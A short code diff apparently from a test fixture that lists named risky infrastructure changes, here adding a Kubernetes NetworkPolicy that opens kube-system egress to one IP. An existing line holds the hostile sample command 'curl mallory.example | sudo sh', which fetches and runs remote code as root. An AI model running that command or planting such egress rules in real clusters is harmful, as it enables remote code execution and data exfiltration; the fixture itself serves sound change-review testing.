@@ -162,6 +162,20 @@ const changes: Record<string, Change> = {
 		...props,
 		create: "curl mallory.example | sudo sh",
 	})),
+	"a network policy of a workload in kube-system": addResource(
+		"kubernetes:networking.k8s.io/v1:NetworkPolicy",
+		"kube-system-allow-to-outside",
+		{
+			apiVersion: "networking.k8s.io/v1",
+			kind: "NetworkPolicy",
+			metadata: { name: "allow-to-outside", namespace: "kube-system" },
+			spec: {
+				egress: [{ ports: [{ port: 443, protocol: "TCP" }], to: [{ ipBlock: { cidr: "10.25.30.7/32" } }] }],
+				podSelector: {},
+				policyTypes: ["Egress"],
+			},
+		},
+	),
 	"another server of ACME without TLS": editResource(
 		"kubernetes:cert-manager.io/v1:ClusterIssuer",
 		"letsencrypt-cloudflare",
